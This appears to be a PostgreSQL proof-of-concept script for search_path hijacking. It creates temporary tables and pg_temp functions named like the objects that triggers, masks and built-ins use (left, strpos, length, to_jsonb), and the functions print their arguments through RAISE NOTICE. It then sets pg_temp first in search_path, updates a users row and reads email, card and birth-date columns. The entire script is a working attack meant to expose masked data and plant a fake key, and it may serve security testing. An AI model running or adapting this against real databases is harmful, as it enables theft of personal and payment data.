-- session: temporary objects with the names of what masks, triggers and the catalogue use
CREATE TEMP TABLE user_history (at timestamptz, old jsonb, new jsonb);

CREATE TEMP TABLE key (id smallint, secret bytea); INSERT INTO key VALUES (1, 'x');

CREATE FUNCTION pg_temp.left(text, integer) RETURNS text LANGUAGE sql AS 'SELECT $1';

CREATE FUNCTION pg_temp.strpos(text, text) RETURNS integer LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN 1; END $$;

CREATE FUNCTION pg_temp.length(text) RETURNS integer LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN 1; END $$;

CREATE FUNCTION pg_temp.to_jsonb(anyelement) RETURNS jsonb LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN '{}'; END $$;

SET search_path = pg_temp, public, pg_catalog;

UPDATE public.users SET note = 'hijacked' WHERE id = 1;

SELECT * FROM user_history;

RESET search_path;

SELECT email, card, born FROM users WHERE id = 1;
